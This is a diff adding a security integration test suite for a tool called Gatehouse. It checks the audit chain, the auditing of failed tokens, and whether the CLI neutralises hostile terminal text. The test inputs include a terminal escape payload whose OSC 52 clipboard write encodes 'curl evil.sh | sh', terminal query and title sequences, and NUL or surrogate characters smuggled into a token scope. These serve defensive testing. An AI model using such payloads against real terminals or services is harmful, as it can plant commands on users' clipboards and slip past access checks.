@@ -1,0 +1,165 @@
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import postgres from "postgres";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { runCli } from "../support/cli";
+import { consoleSignIn } from "../support/console-login";
+import { apiCall, login, startGatehouse, type GatehouseProcess } from "../support/gatehouse";
+
+/**
+ * Can security trust the audit log and what the tools show of recordings? Attacks on the audit
+ * chain, on what gets audited, and on the terminals of the people who read recordings, against a
+ * real Gatehouse process (embedded database, demo upstream).
+ */
+describe("recording and audit integrity", () => {
+  let gh: GatehouseProcess;
+  let admin: string;
+  let home: string;
+  const MEMBER = "mallory@example.test";
+  const MEMBER_PASSWORD = "mallory-password-1";
+  let member: string;
+
+  type AuditEntry = { seq: number; action: string; subject: string; actorEmail: string; detail: Record<string, unknown> };
+  const auditSince = async (seq: number): Promise<AuditEntry[]> => {
+    const res = await apiCall(gh.url, admin, "GET", "/audit?limit=1000");
+    expect(res.status).toBe(200);
+    return (res.body.entries as AuditEntry[]).filter((e) => e.seq > seq).reverse();
+  };
+  const headSeq = async () => {
+    const res = await apiCall(gh.url, admin, "GET", "/audit?limit=1");
+    return (res.body.entries as AuditEntry[])[0]?.seq ?? 0;
+  };
+  const verify = async () => (await apiCall(gh.url, admin, "GET", "/audit/verify")).body;
+
+  beforeAll(async () => {
+    home = fs.mkdtempSync(path.join(os.tmpdir(), "gh-integrity-home-"));
+    gh = await startGatehouse();
+    admin = await login(gh.url, gh.adminEmail, gh.adminPassword);
+    expect((await apiCall(gh.url, admin, "POST", "/users", { email: MEMBER, password: MEMBER_PASSWORD, role: "member" })).status).toBe(200);
+    member = await login(gh.url, MEMBER, MEMBER_PASSWORD);
+  }, 300_000);
+
+  afterAll(async () => {
+    await gh?.stop();
+    if (home) fs.rmSync(home, { recursive: true, force: true });
+  });
+
+  describe("the audit chain", () => {
+    it("a failed login whose email holds an unpaired surrogate is audited and leaves the chain verifiable", async () => {
+      const before = await headSeq();
+      // JSON.stringify writes the lone surrogate as \ud800: the server parses it back into one.
+      const res = await fetch(`${gh.url}/api/v1/login`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ email: "\ud800evil@example.test", password: "x" }) });
+      expect(res.status).toBe(401);
+      const rows = await auditSince(before);
+      expect(rows.map((r) => r.action)).toContain("auth.login_failed");
+      // An anonymous caller must not be able to make `audit verify` report tampering.
+      expect(await verify()).toMatchObject({ ok: true });
+    });
+
+    it("a refused token exchange is audited even when its scope smuggles NUL or an unpaired surrogate", async () => {
+      const scoped = await apiCall(gh.url, member, "POST", "/tokens", { name: "scoped", ttlSeconds: 3600, connections: ["demo-postgres"] });
+      expect(scoped.status).toBe(200);
+      for (const poison of ["\u0000", "\udc00"]) {
+        const before = await headSeq();
+        const res = await fetch(`${gh.url}/api/v1/token`, {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body: JSON.stringify({ grant_type: "urn:ietf:params:oauth:grant-type:token-exchange", subject_token: scoped.body.token, actor: "probe", scope: `connection:demo-postgres connection:prod${poison}` }),
+        });
+        expect(res.status).toBe(400);
+        expect((await res.json()).error).toBe("invalid_scope");
+        const refused = (await auditSince(before)).filter((r) => r.action === "token.exchange_refused");
+        expect(refused).toHaveLength(1);
+        expect(refused[0].subject).toBe(`user:${MEMBER}`);
+        expect(String(refused[0].detail.reason)).toContain("prod");
+      }
+      expect(await verify()).toMatchObject({ ok: true });
+    });
+  });
+
+  describe("what is audited", () => {
+    it("a console sign-in with a password is audited like a CLI login", async () => {
+      const before = await headSeq();
+      const signedIn = await consoleSignIn(gh.url, MEMBER, MEMBER_PASSWORD);
+      expect(signedIn.ok).toBe(true);
+      const logins = (await auditSince(before)).filter((r) => r.action === "auth.login");
+      expect(logins).toHaveLength(1);
+      expect(logins[0]).toMatchObject({ subject: `user:${MEMBER}`, actorEmail: MEMBER, detail: { via: "console" } });
+    });
+
+    it("a revoked, a forged and a malformed bearer token used on the REST API are audited, without the token", async () => {
+      const made = await apiCall(gh.url, member, "POST", "/tokens", { name: "soon-revoked", ttlSeconds: 3600 });
+      expect(made.status).toBe(200);
+      expect((await apiCall(gh.url, member, "DELETE", `/tokens/${made.body.id}`)).status).toBe(200);
+      const forged = `${member.slice(0, -6)}AAAAAA`;
+      const before = await headSeq();
+      for (const t of [made.body.token, forged, "not-a-token"]) expect((await apiCall(gh.url, t, "GET", "/me")).status).toBe(401);
+      const failed = (await auditSince(before)).filter((r) => r.action === "api.auth_failed");
+      expect(failed).toHaveLength(3);
+      expect(failed[0]).toMatchObject({ subject: `user:${MEMBER}`, detail: { protocol: "http" } });
+      expect(String(failed[0].detail.reason)).toMatch(/revoked/);
+      for (const row of failed) {
+        expect(row.detail.address).toBe("127.0.0.1");
+        const text = JSON.stringify(row);
+        for (const t of [made.body.token, forged]) expect(text).not.toContain(t.slice(-20));
+      }
+      // A session cookie that is simply absent or expired is not an attack; only presented tokens count.
+      const quiet = await headSeq();
+      expect((await apiCall(gh.url, null, "GET", "/me")).status).toBe(401);
+      expect(await headSeq()).toBe(quiet);
+    });
+  });
+
+  describe("hostile text in what the CLI prints", () => {
+    // OSC 52 (clipboard write), OSC 0 (title), DECRQSS and DA/DSR queries whose answers the terminal
+    // types into its input, and an 8-bit CSI: a terminal must receive none of them from `gatehouse`.
+    const HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\x1bP$q\"p\x1b\\\x1b[c\x1b[6n\x9b31m\u202eend";
+    const inert = (text: string) => {
+      expect(text).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
+      expect(text).not.toContain("\u202e");
+    };
+    const cli = (token: string, args: string[]) => runCli(args, { env: { HOME: home, GATEHOUSE_URL: gh.url, GATEHOUSE_TOKEN: token } });
+
+    it("an approver's `approvals show` and `list` print a requester's reason as visible text", async () => {
+      const asked = await apiCall(gh.url, member, "POST", "/access-requests", { connection: "demo-postgres", durationSeconds: 600, reason: HOSTILE });
+      expect(asked.status).toBe(200);
+      const id = String(asked.body.approval.id);
+      const shown = await cli(admin, ["approvals", "show", id]);
+      expect(shown.code).toBe(0);
+      inert(shown.stdout);
+      expect(shown.stdout).toContain("ok");
+      expect(shown.stdout).toContain("end");
+      expect(shown.stdout).toContain("]52;c;");
+      const listed = await cli(admin, ["approvals", "list"]);
+      expect(listed.code).toBe(0);
+      inert(listed.stdout);
+      // --json stays exact: machine readers get the text as it was sent.
+      const json = await cli(admin, ["approvals", "show", id, "--json"]);
+      expect(JSON.parse(json.stdout).approval.reason).toBe(HOSTILE);
+    });
+
+    it("`sessions show` prints a client-chosen application_name as visible text", async () => {
+      const sql = postgres({ host: "127.0.0.1", port: gh.ports.postgres, database: "demo-postgres", username: gh.adminEmail, password: admin, ssl: false, max: 1, onnotice: () => {}, connection: { application_name: HOSTILE.replace("\x9b", "") } });
+      try {
+        await sql`select 1`;
+      } finally {
+        await sql.end();
+      }
+      const listed = await apiCall(gh.url, admin, "GET", "/sessions?protocol=postgres");
+      const session = (listed.body.sessions as { id: string; applicationName: string }[]).find((s) => s.applicationName.startsWith("ok"));
+      expect(session).toBeDefined();
+      const shown = await cli(admin, ["sessions", "show", session!.id]);
+      expect(shown.code).toBe(0);
+      inert(shown.stdout);
+      expect(shown.stdout).toContain("]0;pwned");
+    });
+
+    it("an error message that echoes what the caller typed reaches stderr inert", async () => {
+      const failed = await cli(member, ["access", "request", `x${HOSTILE}`, "--duration", "1h", "--reason", "r"]);
+      expect(failed.code).not.toBe(0);
+      expect(failed.stderr).toContain("no connection named");
+      inert(failed.stderr);
+    });
+  });
+});
